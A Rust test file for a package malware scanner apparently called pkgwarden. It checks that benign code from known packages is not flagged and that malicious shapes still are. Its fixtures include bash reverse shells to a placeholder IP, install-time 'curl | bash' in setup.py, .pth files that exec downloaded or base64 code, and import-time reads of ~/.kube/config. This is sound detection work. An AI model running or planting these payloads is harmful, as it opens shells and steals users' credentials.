//! Benign look-alikes of code found in popular packages that were once flagged: each is
//! packed into an sdist in memory and must come out clean. Next to each, the malicious
//! shape the narrowed rule must still catch.

use crate::common::{sdist, with_rule};
use pkgwarden::verdict::Verdict;
use pkgwarden::PackageReport;

fn assert_clean(r: &PackageReport) {
    assert_eq!(r.verdict, Verdict::Clean, "{:#?}", r.findings);
}

/// mcp: a CI script checks whether a port is taken with `(: > /dev/tcp/localhost/$PORT)`.
#[test]
fn dev_tcp_port_probe_is_not_a_reverse_shell() {
    let r = sdist(&[(
        "ci/run-server.sh",
        "#!/bin/bash\nPORT=3001\nif (: > \"/dev/tcp/localhost/${PORT}\") 2>/dev/null; then\n  echo busy\nfi\n",
    )]);
    assert!(
        with_rule(&r, "reverse-shell").is_empty(),
        "{:#?}",
        r.findings
    );
    assert_clean(&r);
    let r = sdist(&[("ci/x.sh", "bash -i >& /dev/tcp/192.0.2.9/4444 0>&1\n")]);
    assert_eq!(with_rule(&r, "reverse-shell").len(), 1, "{:#?}", r.findings);
    let r = sdist(&[(
        "ci/y.sh",
        "exec 5<>/dev/tcp/192.0.2.9/4444; cat <&5 | while read l; do $l 2>&5 >&5; done\n",
    )]);
    assert!(
        !with_rule(&r, "reverse-shell").is_empty(),
        "{:#?}",
        r.findings
    );
}

/// coverage: `a1_coverage.pth` execs a string literal holding an `if` that starts
/// coverage measurement, because a .pth line cannot hold a statement block.
#[test]
fn pth_exec_of_a_plain_literal_is_judged_by_its_code() {
    let r = sdist(&[(
        "a1_demo.pth",
        "import sys; exec('import os\\n\\nif os.getenv(\"DEMO_START\"):\\n try:\\n  import demo\\n except:\\n  pass\\n else:\\n  demo.process_startup(slug=\"pth\")')\n",
    )]);
    assert!(with_rule(&r, "pth-exec").is_empty(), "{:#?}", r.findings);
    assert_clean(&r);
    // The same shape around a download, or around decoded code, still runs unasked.
    let r = sdist(&[(
        "a1_demo.pth",
        "import sys; exec('import urllib.request as u\\nexec(u.urlopen(\"https://x.invalid/p\").read())')\n",
    )]);
    assert!(!with_rule(&r, "pth-exec").is_empty(), "{:#?}", r.findings);
    let r = sdist(&[(
        "a1_demo.pth",
        "import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n",
    )]);
    assert!(!with_rule(&r, "pth-exec").is_empty(), "{:#?}", r.findings);
}

/// gcsfs, numpy, pillow, pymongo, pyarrow: CI and build scripts shipped in the sdist fetch
/// toolchains with `curl ... | bash` or download an installer and run it. Nothing in the
/// package starts them.
#[test]
fn standalone_build_script_that_pipes_curl_to_bash_is_not_flagged() {
    let r = sdist(&[
        (
            "ci/install.sh",
            "#!/bin/bash\nset -e\ncurl -fsSL https://raw.githubusercontent.com/helm/helm/main/scripts/get-helm-3 | bash\n",
        ),
        (
            "depends/install_lib.sh",
            "#!/bin/bash\nwget -O installer.sh https://example.org/installer.sh\nbash installer.sh -b\n",
        ),
    ]);
    assert_clean(&r);
    // The same line in setup.py runs unasked at install.
    let r = sdist(&[(
        "setup.py",
        "import os\nos.system('curl -fsSL https://x.invalid/p.sh | bash')\n",
    )]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

/// kubernetes, awscli: a module-level default path for the client's config file
/// (`os.environ.get('KUBECONFIG', '~/.kube/config')`) opens nothing on import.
#[test]
fn default_credential_path_constant_is_not_a_read() {
    let r = sdist(&[
        ("demo/__init__.py", "from .config import *\n"),
        (
            "demo/config.py",
            "import os\nKUBE_CONFIG_DEFAULT_LOCATION = os.environ.get('KUBECONFIG', '~/.kube/config')\nDEFAULT = os.path.expanduser('~/.kube/config')\n\ndef load(path=DEFAULT):\n    with open(path) as f:\n        return f.read()\n",
        ),
    ]);
    assert_clean(&r);
    // Opening it on import is still a read that runs unasked.
    let r = sdist(&[(
        "demo/__init__.py",
        "import os\nDATA = open(os.path.expanduser('~/.kube/config')).read()\n",
    )]);
    assert!(
        with_rule(&r, "credential-read")
            .iter()
            .any(|f| f.severity >= pkgwarden::finding::Severity::High),
        "{:#?}",
        r.findings
    );
}

/// orjson, fonttools, mpmath, mcp: test suites hold `_0x` escape vectors and exec'd
/// snippets, and docs name the novel "Hyperion"; none of it is obfuscation.
#[test]
fn test_vectors_and_the_word_hyperion_are_not_obfuscation() {
    let vectors: String = (0..30)
        .map(|i| format!("    '\\\\u{i:04x}_0x{i}',\n"))
        .collect();
    let r = sdist(&[
        (
            "demo/__init__.py",
            "TITLES = ('Dune', 'Neuromancer', 'Hyperion')\n",
        ),
        ("tests/test_escape.py", &format!("CASES = [\n{vectors}]\n")),
        (
            "Tests/glif_test.py",
            &format!(
                "CODE = '''{}'''\n\ndef test_exec():\n    exec(CODE)\n",
                "x = 1\n".repeat(200)
            ),
        ),
    ]);
    assert!(
        with_rule(&r, "obfuscated-code")
            .iter()
            .all(|f| f.severity < pkgwarden::finding::Severity::Medium),
        "{:#?}",
        r.findings
    );
    assert_clean(&r);
    // Hyperion's own output still carries its marker.
    let r = sdist(&[("demo/__init__.py", "__obfuscator__ = 'Hyperion'\n")]);
    assert!(
        !with_rule(&r, "obfuscated-code").is_empty(),
        "{:#?}",
        r.findings
    );
}

/// sympy: `resolvent_lookup.py` holds polynomials of hundreds of `+`/`-`/`*` terms, a
/// left-deep tree one level per operator, imported by the package. Long arithmetic is
/// not nesting: the file is analysed whole, not cut at the depth limit.
#[test]
fn a_long_polynomial_is_not_deep_nesting() {
    let terms: Vec<String> = (0..3000)
        .map(|i| format!("{}*s1**{}*s2", i + 1, i % 7))
        .collect();
    let poly = terms.join(" + ").replacen(" + ", " - ", 1000);
    let r = sdist(&[
        ("demo/__init__.py", "from .lookup import TABLE\n"),
        (
            "demo/lookup.py",
            &format!("TABLE = {{\n    1: {poly},\n}}\n"),
        ),
    ]);
    assert_clean(&r);
    assert!(r.errors.is_empty(), "{:?}", r.errors);
}
